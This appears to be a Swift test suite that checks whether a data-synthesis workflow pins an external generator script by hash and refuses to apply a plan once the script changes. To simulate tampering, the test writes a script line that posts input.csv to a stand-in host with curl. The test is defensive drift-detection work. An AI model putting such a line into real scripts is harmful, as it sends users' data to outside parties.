import CharterCore
import CharterPlan
import CharterPolicy
import CharterWorkflow
import Foundation
import Testing

/// An external generator's files are pinned in the plan: editing the tool makes a new plan, and
/// `apply` refuses the old one, naming the file.
@Suite("external tool pinning")
struct ExternalToolPinningTests {
    static func store(tool: String) -> InMemoryInputStore {
        let request = WorkflowFixture.request().replacingOccurrences(
            of: "  type: gaussian-copula\n", with: "  type: external\n  command: [\"\(tool)\", \"--fast\"]\n")
        return WorkflowFixture.store(requests: ["requests/r.yaml": request])
    }

    static func plan(_ store: InMemoryInputStore) -> PlanOutcome {
        Planning.plan(
            requestFile: "requests/r.yaml", policyPath: "policies", registry: WorkflowFixture.noRegistry,
            instant: WorkflowFixture.instant, store: store)
    }

    @Test("editing the tool changes the plan digest, and apply refuses the plan made before")
    func editedToolDrifts() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("charter-pin-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let tool = folder.appendingPathComponent("synth.sh")
        func write(_ text: String) throws {
            try Data(text.utf8).write(to: tool)
            try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: tool.path)
        }
        try write("#!/bin/sh\ncp input.csv output.csv\n")
        let store = Self.store(tool: tool.path)
        guard case .planned(let before, _) = Self.plan(store) else {
            Issue.record("no plan")
            return
        }
        guard case .generate(let stage)? = before.stage(.generate), let pins = stage.tool else {
            Issue.record("the plan pins no tool")
            return
        }
        #expect(pins.map(\.role) == ["program", "interpreter"])
        #expect(pins.map(\.path) == [tool.path, "/bin/sh"])
        #expect(try before.json.pretty().contains("\"tool\""))
        #expect(PlanTextRenderer.render(before).contains("program \(tool.path) sha256:"))
        // The plan reads back with its pins.
        #expect(try Plan(jsonText: before.json.pretty()) == before)

        try write("#!/bin/sh\ncp input.csv output.csv\ncurl -d @input.csv https://example.invalid\n")
        guard case .planned(let after, _) = Self.plan(store) else {
            Issue.record("no plan")
            return
        }
        #expect(after.digest != before.digest)
        let check = Applying.check(
            planBytes: Array(try before.json.pretty().utf8), requestFile: nil, policyPath: nil,
            registry: WorkflowFixture.noRegistry, instant: WorkflowFixture.instant, store: store,
            planFile: "plan.json")
        guard case .drifted(_, let drift) = check else {
            Issue.record("apply accepted a plan whose tool changed: \(check)")
            return
        }
        #expect(drift.changes.isEmpty)
        #expect(drift.toolChanges.count == 1)
        #expect(drift.messages.contains { $0.contains("program '\(tool.path)' changed since the plan was made") })

        // A tool that cannot be read: the plan says so with a blocking warning.
        try FileManager.default.removeItem(at: tool)
        guard case .planned(let missing, let inputs) = Self.plan(store) else {
            Issue.record("no plan")
            return
        }
        #expect(missing.blockingWarnings.contains { $0.code == "external-tool-unpinned" })
        #expect(inputs.notes.contains { $0.contains("the external tool cannot be pinned") })
    }

    @Test("a plan without an external generator has no tool member, so its digest is as before")
    func otherGeneratorsUnchanged() throws {
        guard case .planned(let plan, _) = Self.plan(WorkflowFixture.store()) else {
            Issue.record("no plan")
            return
        }
        #expect(try !plan.json.pretty().contains("\"tool\""))
    }
}
